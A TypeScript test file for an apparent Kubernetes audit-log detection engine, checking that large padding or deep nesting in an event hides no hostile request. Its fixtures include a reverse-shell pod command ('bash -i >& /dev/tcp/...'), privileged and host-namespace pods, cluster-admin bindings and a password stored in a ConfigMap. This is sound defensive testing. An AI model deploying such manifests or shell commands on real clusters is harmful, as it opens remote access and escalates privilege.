// Padding in the body of a hostile request does not hide the request: each request raises the alert for its content, or
// the alert for a truncated event, with the user and the object.
import { describe, expect, test } from "vitest";
import { readyRules, type SourceRules } from "../src/agent/load/ready-rules.ts";
import { entryOf } from "../src/alert/entry.ts";
import { loadConfig } from "../src/config/load.ts";
import { DocumentEngine } from "../src/engine/document-engine.ts";
import type { Document } from "../src/event/document.ts";
import { parseJson } from "../src/event/json-text.ts";
import { Machine } from "../src/machine/machine.ts";
import { decodeJson } from "../src/source/decode.ts";
import { openInbox } from "../src/source/inbox.ts";
import { openAuditReader } from "../src/source/k8s-audit/split.ts";
import { openLines } from "../src/source/lines.ts";
import { TRUNCATED } from "./k8s-audit/scenarios/padded.ts";
import { states } from "./k8s-audit/who-and-what.ts";

const { config } = await loadConfig(undefined);
const most = config.sources.k8s_audit.max_event;
const loaded = await readyRules(["rules/k8s_audit.yaml"], config, "all", "here", { sources: ["k8s_audit"] });

type Fields = Readonly<Record<string, unknown>>;

const pod = (spec: Fields, container: Fields = {}): Fields => ({
  spec: { ...spec, containers: [{ name: "a", image: "busybox", ...container }] },
});
const secured = (securityContext: Fields) => pod({}, { securityContext });
const role = (verbs: readonly string[], resources: readonly string[]): Fields => ({
  rules: [{ apiGroups: [""], verbs, resources }],
});
const binding = (name: string, group: string): Fields => ({
  roleRef: { kind: "ClusterRole", name },
  subjects: [{ kind: "Group", name: group }],
});

/** Hostile requests: resource, body, and matching rule. */
const HOSTILE: readonly (readonly [resource: string, body: Fields, rule: string])[] = [
  ["pods", secured({ privileged: true }), "Privileged pod created"],
  ["pods", pod({ hostNetwork: true }), "Pod created with host network"],
  ["pods", pod({ hostPID: true }), "Pod created with host PID namespace"],
  ["pods", pod({ hostIPC: true }), "Pod created with host IPC namespace"],
  ["pods", pod({ volumes: [{ hostPath: { path: "/etc" } }] }), "Sensitive host path mounted in pod"],
  ["pods", secured({ capabilities: { add: ["SYS_ADMIN"] } }), "Pod created with dangerous capabilities"],
  ["pods", pod({}, { command: ["sh", "-c", "bash -i >& /dev/tcp/1/2"] }), "Reverse shell in pod command"],
  [
    "deployments",
    { spec: { template: secured({ privileged: true }) } },
    "Workload created or modified with insecure pod template",
  ],
  ["clusterrolebindings", binding("cluster-admin", "shop"), "Cluster-admin role bound"],
  ["clusterrolebindings", binding("view", "system:unauthenticated"), "Role bound to anonymous or all users"],
  ["clusterroles", role(["*"], ["pods"]), "Wildcard permission granted in RBAC role"],
  ["clusterroles", role(["create"], ["pods/exec"]), "Pod exec permission granted in RBAC role"],
  ["clusterroles", role(["escalate"], ["roles"]), "Privilege escalation permission granted in RBAC role"],
  ["configmaps", { data: { conf: "password=hunter2" } }, "Credential stored in ConfigMap"],
  ["services", { spec: { type: "NodePort" } }, "Service exposed through NodePort"],
  ["services", { spec: { type: "LoadBalancer" } }, "Service exposed through load balancer"],
  ["services", { spec: { externalIPs: ["192.0.2.1"] } }, "Service configured with external IP addresses"],
  ["validatingwebhookconfigurations", { webhooks: [{ name: "x" }] }, "Admission webhook or policy modified"],
  [
    "namespaces",
    { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } },
    "Pod security enforcement disabled for namespace",
  ],
  [
    "certificatesigningrequests",
    { spec: { signerName: "kubernetes.io/kube-apiserver-client" } },
    "API client certificate requested",
  ],
];

const nameOf = (resource: string): string => `padded-${resource}`;

/** Returns an event in the format of an API server, with the same order of members and `<` escaped. */
function written(resource: string, body: Fields, padding: string): string {
  const name = nameOf(resource);
  const metadata = { ...(body.metadata ?? {}), name, annotations: { padding } };
  const object = { ...body, metadata };
  const event = {
    ...{
      kind: "Event",
      apiVersion: "audit.k8s.io/v1",
      level: "RequestResponse",
      auditID: "a",
      stage: "ResponseComplete",
    },
    ...{ requestURI: `/apis/x/v1/${resource}`, verb: "create", user: { username: "mallory" }, userAgent: "curl" },
    objectRef: { resource, name },
    ...{ responseStatus: { code: 201 }, requestObject: object, responseObject: object },
    stageTimestamp: "2026-11-27T18:14:16.627569Z",
    annotations: { "authorization.k8s.io/decision": "allow" },
  };
  return JSON.stringify(event).replaceAll("<", "\\u003c");
}

/** Returns the rules of the alerts that have the user and the object. */
function alertsFor(rules: SourceRules, resource: string, documents: readonly Document[]): string[] {
  const inbox = openInbox("k8s_audit", { most: 10 });
  inbox.offer(documents);
  const seen: string[] = [];
  new DocumentEngine(inbox, new Machine(), rules.ruleset, (rule, event) => {
    const alert = entryOf(rules.raise(rule, event));
    if (states(alert, "mallory", nameOf(resource)) && alert.names.includes("ka.sourceips")) seen.push(alert.rule);
  }).drain();
  return seen;
}

/** Ways in which an event arrives. Each function returns the documents of the event. */
const WAYS: Readonly<Record<string, (text: string) => readonly Document[]>> = {
  webhook: (text) => {
    const list = parseJson(Buffer.from(`{"kind":"EventList","items":[${text}]}`));
    const { documents, refused } = openAuditReader().split(list, { time: 1n }, most);
    expect(refused).toEqual([]);
    return documents;
  },
  "log file": (text) => {
    const documents: Document[] = [];
    const decode = decodeJson(openAuditReader().split, most);
    const lines = openLines(
      most,
      (line) => documents.push(...decode(line, { time: 1n }).documents),
      (beginning) => documents.push(openAuditReader().beginning!(beginning, { time: 1n })),
    );
    const bytes = Buffer.from(`${text}\n`);
    for (let at = 0; at < bytes.length; at += 262_144) lines.push(bytes.subarray(at, at + 262_144));
    return documents;
  },
};

/**
 * Padding sizes, with the number of hostile requests to test: few for `<`, since escaping results in events of 17 MB,
 * which are slow to write.
 */
const SIZES = [
  ...[100_000, 400_000, 1_000_000].map((size) => ({ size, letter: "x", requests: 20 })),
  { size: 1_400_000, letter: "x", requests: 20 },
  { size: 1_400_000, letter: "<", requests: 2 },
];

describe.each(Object.keys(WAYS))("over the %s", (way) => {
  test.each(SIZES)("$size times $letter hides no request", ({ size, letter, requests }) => {
    const rules = loaded.of("k8s_audit");
    const padding = letter.repeat(size);
    const missed = HOSTILE.slice(0, requests).filter(([resource, body, rule]) => {
      const seen = alertsFor(rules, resource, WAYS[way]!(written(resource, body, padding)));
      return !seen.includes(rule) && !seen.includes(TRUNCATED);
    });
    expect(missed.map(([, , rule]) => rule)).toEqual([]);
  });

  test("an ordinary event of a megabyte is evaluated completely", () => {
    const [resource, body, rule] = HOSTILE[0]!;
    const seen = alertsFor(
      loaded.of("k8s_audit"),
      resource,
      WAYS[way]!(written(resource, body, "x".repeat(1_000_000))),
    );
    expect(seen).toContain(rule);
    expect(seen).not.toContain(TRUNCATED);
  });
});

test("values nested too deeply hide no request", () => {
  const text = written("pods", secured({ privileged: true }), "x");
  const deep = text.replace('"padding":"x"', `"padding":${"[".repeat(500)}${"]".repeat(500)}`);
  expect(alertsFor(loaded.of("k8s_audit"), "pods", WAYS.webhook!(deep))).toContain(TRUNCATED);
});
